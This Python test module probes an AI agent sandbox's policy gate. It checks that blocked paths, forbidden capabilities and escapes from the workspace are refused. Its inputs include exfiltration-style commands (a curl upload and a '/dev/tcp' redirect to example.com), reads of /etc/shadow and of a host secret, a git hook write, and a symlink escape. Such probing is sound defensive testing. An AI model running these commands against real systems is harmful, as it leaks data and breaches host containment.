"""Probes of the person's own policy at a real gate: what it blocks is blocked by every way in.

Promises: the workspace is a scratch one, with files of our own under names that the policy blocks; of the person's
workspace the names are looked at, the contents never. What the policy allows is said, and is no fault.
"""

from __future__ import annotations

import itertools
import os
import re
import time
from collections.abc import Iterator
from typing import Any

from nucleus.lattice import capability as cap
from nucleus.lattice.decision import Context, decide, decide_path
from nucleus.lattice.paths import SENSITIVE
from nucleus.lattice.policy import CARRIED, Policy
from nucleus.model.decision import Verdict
from nucleus.model.operation import ADAPTER
from nucleus.testing.conformance.bed import FailedError, LivePod, NotHereError, Refused, content, ran
from nucleus.testing.selftest.finding import AllowedError, Findings
from nucleus.testing.selftest.ground import Ground

CANARY = "NUCLEUS_SELFTEST_CANARY"
GLOBS = 500  # lines of paths.block that are tried, by an example each
NAMES = 100  # blocked names of the person's workspace, besides
ENTRIES = 20_000  # of the person's workspace, looked at for such names
GATE = "gate: policy"
REFUSALS = {"denied", "approval_required", "invalid_request", "no_egress", "operation_failed", "unauthenticated"}
OPERATIONS: dict[str, dict[str, Any]] = {
    "read_files": {"kind": "read", "path": "plain.txt"},
    "write_files": {"kind": "write", "path": "new.txt", "content": "x"},
    "edit_files": {"kind": "edit", "path": "plain.txt", "old": "plain", "new": "other"},
    "run_bash": {"kind": "run", "argv": ["/bin/true"]},
    "glob_search": {"kind": "glob", "pattern": "**"},
    "grep_search": {"kind": "grep", "pattern": "plain"},
    "web_search": {"kind": "web_search", "query": "x"},
    "web_fetch": {"kind": "web_fetch", "url": "https://example.com/"},
    "git_commit": {"kind": "git_commit", "message": "x"},
    "git_push": {"kind": "git_push"},
    "create_pr": {"kind": "create_pr", "title": "x"},
    "manage_pods": {"kind": "manage_pods", "action": "list"},
}


def example(glob: str) -> str:
    """A name that a glob covers, as far as one is easily made."""
    name = glob.removeprefix("./").lstrip("/").replace("**/", "").replace("/**", "/x")
    name = re.sub(r"\[([^!^\]])[^\]]*\]", r"\1", name)
    return name.replace("*", "x").replace("?", "x")


def blocked_names(policy: Policy, workspace: str) -> tuple[list[str], list[str]]:
    """(names to try: one for each glob of the policy, and those of the workspace; globs without an example)."""
    names: list[str] = []
    without: list[str] = []
    for glob in policy.hidden_globs()[:GLOBS]:
        made = example(glob)
        if _blocked(policy, made):
            names.append(made)
        else:
            without.append(glob)
    theirs = (name for name in _walk(workspace) if _blocked(policy, name)) if workspace else ()
    return sorted({*names, *itertools.islice(theirs, NAMES)}), without


def _blocked(policy: Policy, name: str) -> bool:
    found = decide_path(policy, name)
    return bool(name) and found is not None and found.rule == "paths.block"


def _walk(workspace: str) -> Iterator[str]:
    count = 0
    for top, directories, files in os.walk(workspace):
        directories[:] = [name for name in directories if name != ".git"]
        for name in files:
            count += 1
            if count > ENTRIES:
                return
            path = os.path.relpath(os.path.join(top, name), workspace)
            if path.isprintable() and path.isascii():
                yield path


def plant(directory: str, names: list[str], secret: str) -> list[str]:
    """Fill a scratch workspace; the names that could be made (one may be a directory of another)."""
    made = []
    for name in names:
        path = os.path.join(directory, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "x", encoding="ascii") as file:
                file.write(f"{CANARY}\n")
        except OSError:
            continue
        made.append(name)
    with open(f"{directory}/plain.txt", "w", encoding="ascii") as file:
        file.write("plain\n")
    os.symlink(secret, f"{directory}/selftest-link")
    return made


def refused(pod: LivePod, **operation: Any) -> Refused:
    """An operation that has to be refused. Raises FailedError: it was carried out; NotHereError: for want of money."""
    result = pod.operate(**operation)
    if not isinstance(result, Refused):
        raise FailedError(f"{operation['kind']} was carried out")
    if result.kind not in REFUSALS:
        raise NotHereError(f"{result.kind}: {result.rule}")
    return result


def probe(
    findings: Findings, ground: Ground, pod: LivePod, policy: Policy, names: list[str], without: list[str]
) -> None:
    """All of it; a person who says yes is present, so that what refuses is the policy and what is beneath it."""
    _paths(findings, pod, policy, names, without)
    _capabilities(findings, pod, policy)
    _workspace(findings, ground, pod)


def _paths(findings: Findings, pod: LivePod, policy: Policy, names: list[str], without: list[str]) -> None:
    def some() -> None:
        if not policy.hidden_globs():
            raise AllowedError("paths.block is empty: every file of the workspace may be read")
        if not names:
            raise NotHereError("no example of what paths.block names could be made")

    def by_read() -> str:
        some()
        rules = {refused(pod, kind="read", path=name).rule for name in names}
        return f"{len(names)} names refused by {', '.join(sorted(rules))}"

    def by_glob() -> str:
        some()
        result = pod.operate(kind="glob", pattern="**")
        if isinstance(result, Refused):
            return f"{result.kind}: {result.rule}"
        if shown := sorted(set(result["paths"]) & set(names)):
            raise FailedError(f"listed: {', '.join(shown[:10])}")
        return f"none of {len(names)} names is listed"

    def by_grep() -> str:
        some()
        result = pod.operate(kind="grep", pattern=CANARY)
        if isinstance(result, Refused):
            return f"{result.kind}: {result.rule}"
        if result["matches"]:
            raise FailedError(f"found: {str(result['matches'])[:200]}")
        return f"nothing of {len(names)} files is found"

    def by_command() -> str:
        some()
        # The first names them, for the gate to refuse; the second does not, and meets the pod's own view.
        told = [_command(pod, names, "cat", "--", *names[:20]), _command(pod, names, "grep", "-rs", CANARY, ".")]
        return "; ".join(told)

    def sensitive() -> str:
        lacking = [glob for glob in SENSITIVE if (name := example(glob)) and not _blocked(policy, name)]
        lacking = [glob for glob in lacking if decide_path(policy, example(glob)) is None]
        if lacking:
            raise AllowedError(f"not blocked: {', '.join(lacking[:8])}{' ...' if len(lacking) > 8 else ''}")
        return f"all {len(SENSITIVE)} patterns of @sensitive are blocked or not on the allow list"

    for way, tried, layer, work in (
        ("read", "read every blocked path", GATE, by_read),
        ("glob", "list blocked paths", GATE, by_glob),
        ("grep", "search the content of blocked paths", GATE, by_grep),
        ("command", "read blocked paths by a command", "gate: policy; pod: view of the workspace", by_command),
    ):
        findings.attempt(f"policy.blocked-by-{way}", tried, layer, work)
    findings.attempt("policy.sensitive", "files that usually hold secrets are blocked", GATE, sensitive)
    if without:
        findings.add("policy.block-examples", "an example for every line of paths.block", GATE, "not checked", without)


def _command(pod: LivePod, names: list[str], *argv: str) -> str:
    result = pod.operate(kind="run", argv=list(argv), timeout_ms=20_000)
    if isinstance(result, Refused):
        if result.kind not in REFUSALS:
            raise NotHereError(f"{result.kind}: {result.rule}")
        return f"{argv[0]}: {result.rule}"
    if CANARY.encode() in ran(result).out:
        raise FailedError(f"{argv[0]} printed what a blocked file holds")
    return f"{argv[0]}: nothing of {len(names)} files, exit {ran(result).code}"


def _capabilities(findings: Findings, pod: LivePod, policy: Policy) -> None:
    never = [name for name in cap.NAMES if cap.level(policy.capabilities, name) == cap.NEVER]
    for name in never:
        operation = OPERATIONS[name]

        def work(operation: dict[str, Any] = operation) -> str:
            found = refused(pod, **operation)
            if found.kind != "denied" or not found.rule.startswith("capabilities."):
                raise NotHereError(f"refused, but by {found.kind}: {found.rule}")
            return found.rule

        findings.attempt(f"policy.never.{name.replace('_', '-')}", f"{operation['kind']}, a `never`", GATE, work)

    def breadth() -> str:
        free = [name for name in cap.NAMES if name not in never and cap.unattended(policy.capabilities, name)]
        if not never:
            raise AllowedError(f"no capability is `never`; without being asked: {', '.join(free) or 'none'}")
        return f"{len(never)} of {len(cap.NAMES)} are `never`"

    findings.attempt("policy.capabilities", "the policy forbids something", GATE, breadth)


def _workspace(findings: Findings, ground: Ground, pod: LivePod) -> None:
    def link() -> str:
        result = pod.operate(kind="read", path="selftest-link")
        if isinstance(result, Refused):
            return f"{result.kind}: {result.rule}"
        raise FailedError("the content of a file of the host's" if b"PLANTED" in content(result) else "it was read")

    def hook() -> str:
        found = refused(pod, kind="write", path=".git/hooks/pre-commit", content="#!/bin/sh\n")
        return f"{found.kind}: {found.rule}"

    def outside() -> str:
        found = [refused(pod, kind=k, path=p, **m) for k, p, m in (
            ("read", "../host/planted-secret", {}), ("read", "/etc/shadow", {}), ("write", "../x", {"content": "x"}),
        )]  # fmt: skip
        return ", ".join(sorted({f"{each.kind}: {each.rule}" for each in found}))

    findings.attempt("containment.file.symlink", "read a link in the workspace that leads out", "hands: openat2", link)
    findings.attempt("containment.file.hook", "write a git hook, which would run on the host", GATE, hook)
    findings.attempt("containment.file.outside", "read and write by ../ and /etc/shadow", "gate: validation", outside)


def outward(findings: Findings, pod: LivePod, policy: Policy, isolation: str) -> None:
    """Ways out of a session that has read something: nobody says yes, the gate is as strict as it explains."""
    operations = {
        "a command that sends a file": {"kind": "run", "argv": ["curl", "-sS", "-m", "3", "-d", "@plain.txt",
                                                                "https://example.com/"]},
        "a shell string": {"kind": "run", "argv": ["/bin/sh", "-c", "cat plain.txt >/dev/tcp/example.com/443"]},
        **{OPERATIONS[name]["kind"]: OPERATIONS[name] for name in CARRIED},
    }  # fmt: skip
    pod.operate(kind="read", path="plain.txt")
    for words, operation in operations.items():

        def work(operation: dict[str, Any] = operation) -> str:
            return _out(pod, policy, operation, isolation)

        name = re.sub(r"\W+|_", "-", words)
        tried = f"{words}, after a file was read"
        findings.attempt(f"approval.outward.{name}", tried, "gate: trifecta, approval", work)


def _out(pod: LivePod, policy: Policy, operation: dict[str, Any], isolation: str) -> str:
    now = time.time_ns()
    # Nothing seen and no way out: whatever the gate knows besides can only make it stricter.
    least = decide(policy, ADAPTER.validate_python(operation), Context(now, now, isolation=isolation))
    result = pod.operate(**operation)
    if not isinstance(result, Refused) or result.rule.startswith("hands."):  # hands does what was let through
        if least.verdict is not Verdict.ALLOW:
            raise FailedError(f"carried out, where the policy says {least.verdict.value} ({least.rule})")
        raise AllowedError(f"nobody is asked ({least.rule}); {_how(result)}")
    if result.kind not in REFUSALS:
        raise NotHereError(f"{result.kind}: {result.rule}")
    if least.verdict is Verdict.ALLOW and result.kind in ("operation_failed", "no_egress"):
        raise AllowedError(f"nobody is asked ({least.rule}); then {result.kind}: {result.rule}")
    return f"{result.kind}: {result.rule}"


def _how(result: dict[str, Any] | Refused) -> str:
    return result.rule if isinstance(result, Refused) else f"exit {result.get('exit_code', '-')}"
